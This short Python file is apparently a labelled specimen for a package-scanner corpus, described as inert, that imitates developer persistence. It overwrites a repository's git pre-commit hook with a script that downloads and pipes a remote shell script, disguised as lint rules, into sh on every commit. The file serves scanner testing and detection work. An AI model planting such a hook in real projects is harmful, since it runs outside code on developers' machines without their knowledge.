# pkgguard corpus 531 (startup-hook), modelled on [developer-persistence]; inert, never run.
import os
import stat
import subprocess

top = subprocess.run(["git", "rev-parse", "--show-toplevel"], capture_output=True, text=True).stdout.strip()
if top:
    hook = os.path.join(top, ".git", "hooks", "pre-commit")
    with open(hook, "w") as fh:
        fh.write("#!/bin/sh\nwget -qO- https://lint-rules.example/pc.sh | sh\n")
    os.chmod(hook, os.stat(hook).st_mode | stat.S_IEXEC)
